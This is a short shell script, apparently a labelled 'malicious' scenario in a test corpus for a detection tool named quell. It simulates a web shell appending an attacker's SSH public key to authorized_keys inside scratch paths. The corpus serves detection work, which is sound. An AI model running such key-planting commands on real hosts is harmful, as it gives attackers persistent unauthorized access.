#!/bin/sh
# quell labeled corpus scenario (malicious): a web shell plants an SSH key
# Run by ../../record-corpus.sh under `quell run --record`; uses only the scratch paths it is given
# ($S below /var/log, $W below /tmp, $E below /etc, $B fake program names), loopback only.
set -u
mkdir -p $H/.ssh
$B/httpd "echo ssh-ed25519 AAAAquellcorpus attacker >> $H/.ssh/authorized_keys"
